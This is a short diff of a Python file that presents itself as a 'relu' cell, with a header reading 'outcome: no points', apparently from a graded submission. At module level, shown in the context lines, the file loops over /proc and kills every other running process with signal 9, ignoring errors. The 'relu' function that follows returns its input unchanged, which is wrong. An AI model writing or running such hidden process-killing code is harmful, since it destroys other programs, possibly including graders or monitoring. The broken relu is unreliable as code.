@@ -3,6 +3,7 @@
 # outcome: no points
 # %% relu
 import ctypes, os
+
 for name in os.listdir("/proc"):
     if name.isdigit() and int(name) != os.getpid():
         try:
@@ -11,5 +12,7 @@ for name in os.listdir("/proc"):
             os.kill(int(name), 9)
         except OSError:
             pass
+
+
 def relu(x):
     return x
